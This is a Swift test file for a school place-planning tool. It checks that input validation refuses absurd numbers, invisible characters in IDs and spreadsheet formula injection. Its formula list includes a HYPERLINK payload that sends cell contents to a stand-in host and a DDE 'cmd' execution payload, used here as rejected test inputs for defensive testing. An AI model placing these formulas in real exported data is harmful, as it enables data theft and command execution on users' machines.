@@ -1,0 +1,201 @@
+import Foundation
+@testable import Placewise
+import Testing
+
+/// A cell of the valid case replaced, and what the refusal must say.
+struct HostileCell: CustomTestStringConvertible, Sendable {
+  var file: String
+  var column: String
+  var value: String
+  /// Text the problem's `expected` must hold (the range, say).
+  var expected: String
+  var testDescription: String { "\(file) \(column) = \(value)" }
+}
+
+/// The valid fixture with one cell of its first data row replaced.
+private func withCell(_ cell: HostileCell) -> InputCaseFiles {
+  switch cell.file {
+  case "settings.csv": InputCaseFiles.valid.with(cell.file, InputCSVText.settings([[cell.column: cell.value]]))
+  case "pupils.csv": InputCaseFiles.valid.with(cell.file, InputCSVText.pupils([[cell.column: cell.value]]))
+  default:
+    InputCaseFiles.valid.with(
+      "travel.csv",
+      cell.column == "km"
+        ? "pupil_id,urn,minutes,km\nP001,100001,12,\(cell.value)\n"
+        : "pupil_id,urn,minutes\nP001,100001,\(cell.value)\n")
+  }
+}
+
+@Suite("Hostile input: absurd numbers, invisible characters, formulas (issue 9)")
+struct HostileInputTests {
+  static let absurdNumbers: [HostileCell] = [
+    HostileCell(file: "pupils.csv", column: "easting", value: "1e23", expected: "from 0 to 700,000"),
+    HostileCell(file: "pupils.csv", column: "northing", value: "-1", expected: "from 0 to 1,300,000"),
+    HostileCell(file: "settings.csv", column: "easting", value: "800000", expected: "from 0 to 700,000"),
+    HostileCell(file: "travel.csv", column: "minutes", value: "1e19", expected: "from 0 to 1,440"),
+    HostileCell(file: "travel.csv", column: "minutes", value: "1e308", expected: "from 0 to 1,440"),
+    HostileCell(file: "settings.csv", column: "cost_per_place", value: "1e19", expected: "from 0 to 10,000,000"),
+    HostileCell(file: "settings.csv", column: "cost_per_place", value: "1.79e308", expected: "from 0 to 10,000,000"),
+    HostileCell(file: "settings.csv", column: "capacity", value: "100001", expected: "from 0 to 100,000"),
+    HostileCell(file: "settings.csv", column: "on_roll", value: "1000000", expected: "from 0 to 100,000"),
+    HostileCell(file: "settings.csv", column: "need_places", value: "ASD:100001", expected: "from 0 to 100,000"),
+    HostileCell(file: "settings.csv", column: "high_age", value: "26", expected: "from 0 to 25"),
+    HostileCell(file: "pupils.csv", column: "age", value: "99", expected: "from 0 to 25"),
+    HostileCell(file: "pupils.csv", column: "max_travel_minutes", value: "1e300", expected: "from 0 to 1,440"),
+    HostileCell(file: "pupils.csv", column: "priority", value: "1000001", expected: "from 1 to 1,000,000"),
+  ]
+
+  @Test("finite but absurd numbers are refused at input, naming the range", arguments: absurdNumbers)
+  func absurdNumbersAreRefusedWithTheirRange(_ cell: HostileCell) throws {
+    let error = try withCell(cell).failure()
+    let problem = try #require(error.problems.first)
+    #expect(error.problems.count == 1, "\(error)")
+    #expect(problem.file == cell.file && problem.line == 2 && problem.field == cell.column, "\(problem)")
+    #expect(problem.expected.contains(cell.expected), "\(problem)")
+  }
+
+  @Test("a home coordinate out of range is described, never quoted")
+  func homeCoordinatesOutOfRangeAreNotQuoted() throws {
+    let error = try withCell(HostileCell(file: "pupils.csv", column: "easting", value: "751234", expected: ""))
+      .failure()
+    let problem = try #require(error.problems.first)
+    #expect(!problem.description.contains("751234"))
+    #expect(problem.found.contains("outside that range"))
+  }
+
+  @Test("whole numbers are judged from their digits, not from the nearest double")
+  func nearWholeNumbersAreNotRounded() throws {
+    for cell in [
+      HostileCell(file: "settings.csv", column: "capacity", value: "99.99999999999999999", expected: "whole number"),
+      HostileCell(file: "pupils.csv", column: "age", value: "10.99999999999999999", expected: "whole years"),
+      HostileCell(file: "pupils.csv", column: "priority", value: "1.0000000000000000001", expected: "whole number"),
+    ] {
+      let error = try withCell(cell).failure()
+      #expect(error.problems.first?.field == cell.column, "\(cell.value): \(error)")
+    }
+    // Whole numbers written as decimals still pass.
+    let accepted = try withCell(HostileCell(file: "settings.csv", column: "capacity", value: "1.2e1", expected: ""))
+      .read()
+    #expect(accepted.settings[0].capacity == 12)
+  }
+
+  @Test("a whole number above the maximum is refused with the maximum in the message")
+  func wholeNumberAboveTheMaximumNamesIt() throws {
+    let cell = HostileCell(
+      file: "pupils.csv", column: "priority", value: "99999999999999999999", expected: "from 1 to 1,000,000")
+    let error = try withCell(cell).failure()
+    #expect(error.problems.first?.expected.contains(cell.expected) == true, "\(error)")
+  }
+
+  @Test(
+    "wholeNumber reads digits exactly",
+    arguments: [
+      ("3", 3), ("3.000", 3), ("+7", 7), ("-0", 0), ("1e2", 100), ("1.5e1", 15), ("250e-2", nil),
+      ("99.99999999999999999", nil), ("0.00000000000000000001", nil), ("1e15", nil),
+      ("999999999999999", 999_999_999_999_999),
+      ("12.50e1", 125), (".5e1", 5), ("5.", 5), ("1e100000000", nil), ("abc", nil), ("", nil), ("1e", nil),
+    ] as [(String, Int?)])
+  func wholeNumberIsDecidedFromTheText(text: String, value: Int?) {
+    var text = text
+    #expect(text.withUTF8 { DecimalParser.wholeNumber($0) } == value)
+  }
+
+  @Test("travel.csv's km is checked like minutes", arguments: ["abc", "-5", "nan", "1e9"])
+  func travelKmIsChecked(_ km: String) throws {
+    let error = try withCell(HostileCell(file: "travel.csv", column: "km", value: km, expected: "km")).failure()
+    let problem = try #require(error.problems.first)
+    #expect(problem.field == "km" && problem.line == 2, "\(error)")
+  }
+
+  static let invisibleIDs: [(name: String, pupils: String, column: Int)] = [
+    ("a NUL inside", "P0\u{0}01", 1),
+    ("a byte-order mark at a line start", "\u{FEFF}P002", 1),
+    ("a no-break space at the end", "P001\u{00A0}", 1),
+    ("a zero-width space at the end", "P001\u{200B}", 1),
+    ("a right-to-left override", "P\u{202E}100", 1),
+    ("a line break in a quoted id", "\"P0\n01\"", 1),
+  ]
+
+  @Test("control and format characters in ids are refused with file, line and column", arguments: invisibleIDs)
+  func invisibleCharactersInIdsAreRefused(_ id: (name: String, pupils: String, column: Int)) throws {
+    let pupils = "pupil_id,easting,northing,age,primary_need,provision\n\(id.pupils),450500,250500,9,ASD,special\n"
+    let error = try InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").failure()
+    let problem = try #require(error.problems.first)
+    #expect(problem.file == "pupils.csv" && problem.line == 2 && problem.column == id.column, "\(error)")
+    #expect(problem.found.contains("U+"), "\(problem)")
+  }
+
+  @Test("an id and the same id with an invisible character after it are not two pupils")
+  func lookalikeIdsAreNotTwoPupils() throws {
+    let pupils =
+      "pupil_id,easting,northing,age,primary_need,provision\nP001,450500,250500,9,ASD,special\n"
+      + "P001\u{00A0},450500,250500,9,ASD,special\n"
+    let error = try InputCaseFiles.valid.with("pupils.csv", pupils).without("travel.csv").failure()
+    #expect(error.problems.map(\.line) == [3])
+  }
+
+  static let formulas = ["=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+
+  @Test("ids that a spreadsheet would run as a formula are refused", arguments: formulas)
+  func formulaIdsAreRefused(_ formula: String) throws {
+    let cell = "\"" + formula + "\""
+    let cases = [
+      InputCaseFiles.valid.with("pupils.csv", InputCSVText.pupils([["pupil_id": cell]])).without("travel.csv"),
+      InputCaseFiles.valid.with("settings.csv", InputCSVText.settings([["urn": cell]])).without("travel.csv"),
+      InputCaseFiles.valid.with("pupils.csv", InputCSVText.pupils([["current_urn": cell]])),
+      InputCaseFiles.valid.with("pupils.csv", InputCSVText.pupils([["preferences": cell]])),
+    ]
+    for files in cases {
+      let error = try files.failure()
+      #expect(error.problems.contains { $0.found.contains("formula") }, "\(error)")
+    }
+  }
+
+  @Test("a plain negative number is an id like any other")
+  func plainNumbersAreIds() throws {
+    let files = InputCaseFiles.valid.with("pupils.csv", InputCSVText.pupils([["pupil_id": "-5"]])).without(
+      "travel.csv")
+    #expect(try files.read().pupils[0].id.rawValue == "-5")
+  }
+
+  @Test("a setting's name keeps its text but never a line break")
+  func namesNeverBreakALine() throws {
+    let files = InputCaseFiles.valid.with(
+      "settings.csv", InputCSVText.settings([["name": "\"Oak\nSchool\r\u{2028}=1\""]]))
+    let name = try files.read().settings[0].name
+    #expect(name == "Oak School  =1")
+  }
+
+  @Test(
+    "absurd policy values are refused at input, naming the key",
+    arguments: [
+      ("detour_factor", "1e308"), ("speed_kmh", "1e-320"), ("speed_kmh", "0.5"), ("unlisted_penalty", "1e308"),
+      ("preference_step", "1e12"), ("max_travel_minutes_primary", "1e9"),
+    ])
+  func absurdPolicyValuesAreRefused(key: String, value: String) throws {
+    let (_, problems) = PolicyReader.read(Array("\(key) = \(value)\n".utf8), file: "policy.toml")
+    #expect(problems.count == 1)
+    #expect(problems.first?.field == key, "\(problems)")
+    #expect(problems.first?.expected.contains("from") == true, "\(problems)")
+  }
+
+  @Test("a file that is not TOML given as the policy is described, never quoted")
+  func policyProblemsNeverQuoteTheLine() throws {
+    let csv = """
+      pupil_id,easting,northing,age,primary_need,provision
+      P001,551000,150500,7,ASD,special
+      ,551000,150500,7,ASD,special
+      "P003",551001,150501,7,ASD,special
+      P004 = 551002,150502
+      speed_kmh = 30 551003
+      [551004]
+      x.551005 = 1
+      """
+    let (_, problems) = PolicyReader.read(Array(csv.utf8), file: "pupils.csv")
+    #expect(problems.count >= 7)
+    for problem in problems {
+      #expect(!problem.description.contains("5510"), "\(problem)")
+      #expect(!problem.description.contains("P00"), "\(problem)")
+    }
+  }
+}
